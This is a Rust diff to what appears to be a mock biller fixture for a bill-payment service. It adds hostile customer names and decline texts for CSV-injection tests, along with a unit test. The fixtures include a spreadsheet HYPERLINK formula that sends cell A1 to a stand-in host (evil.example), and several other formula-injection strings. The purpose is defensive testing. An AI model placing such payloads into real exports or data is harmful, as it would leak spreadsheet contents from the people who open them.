@@ -132,6 +132,31 @@ fn amount_text(amount: i64) -> String {
     format!("Rp.{:>12}", rupiah(amount))
 }
 
+/// Bills of product `2042` whose biller data is hostile: the customer name is a spreadsheet
+/// formula, as a compromised biller could send. For CSV-injection and escaping tests.
+pub const FORMULA_NAMES: &[(&str, &str)] = &[
+    (
+        "FORMULA-EQ",
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Lunas\")",
+    ),
+    ("FORMULA-PLUS", "+SUM(1+1)*cmd"),
+    ("FORMULA-MINUS", "-2+3+cmd"),
+    ("FORMULA-AT", "@SUM(A1:A9)"),
+];
+
+/// Bills of product `2042` whose inquiry a biller declines (`063`) with a text that starts
+/// with a tab or a carriage return and then a formula.
+pub const FORMULA_DECLINES: &[(&str, &str)] =
+    &[("FORMULA-TAB", "\t=1+1+cmd"), ("FORMULA-CR", "\r=1+1+cmd")];
+
+/// The biller's decline of a [`FORMULA_DECLINES`] bill: its code and text.
+pub fn formula_decline(product: &str, bill_number: &str) -> Option<(&'static str, &'static str)> {
+    FORMULA_DECLINES
+        .iter()
+        .find(|(number, _)| product == VENDOR_PRODUCT && *number == bill_number)
+        .map(|(_, text)| ("063", *text))
+}
+
 /// A postpaid bill of `product`, if `bill_number` is one of its customers.
 pub fn postpaid_bill(product: &str, bill_number: &str) -> Option<Bill> {
     let fixed = |nominal: i64, admin: i64, info1: String, info2: &str, sheets: u8| Bill {
@@ -219,6 +244,18 @@ pub fn postpaid_bill(product: &str, bill_number: &str) -> Option<Bill> {
             1,
         )),
         ("1501", number) if is_bpjs_number(number) => Some(bpjs_bill(number)),
+        (VENDOR_PRODUCT, number) => FORMULA_NAMES
+            .iter()
+            .find(|(formula_bill, _)| *formula_bill == number)
+            .map(|(_, name)| {
+                fixed(
+                    50_000,
+                    1_550,
+                    tokopedia_info1(number, "900099", "TKP000000666", name, 50_000),
+                    "TAGIHAN TOKOPEDIA|##1",
+                    1,
+                )
+            }),
         _ => None,
     }
 }
@@ -400,6 +437,22 @@ mod tests {
             postpaid_bill("1501", "8888123456787").unwrap().nominal,
             140_000
         );
+    }
+
+    #[test]
+    fn formula_bills_carry_their_formula_as_the_customer_name() {
+        for (number, name) in FORMULA_NAMES {
+            let bill = postpaid_bill("2042", number).unwrap();
+            assert!(bill.info1.contains(&format!("Nama        : {name}|")));
+            assert!(!name.contains('|'), "a name never splits the receipt");
+        }
+        assert!(postpaid_bill("1001", "FORMULA-EQ").is_none());
+        assert_eq!(
+            formula_decline("2042", "FORMULA-TAB"),
+            Some(("063", "\t=1+1+cmd"))
+        );
+        assert_eq!(formula_decline("1001", "FORMULA-TAB"), None);
+        assert_eq!(formula_decline("2042", "FORMULA-EQ"), None);
     }
 
     #[test]
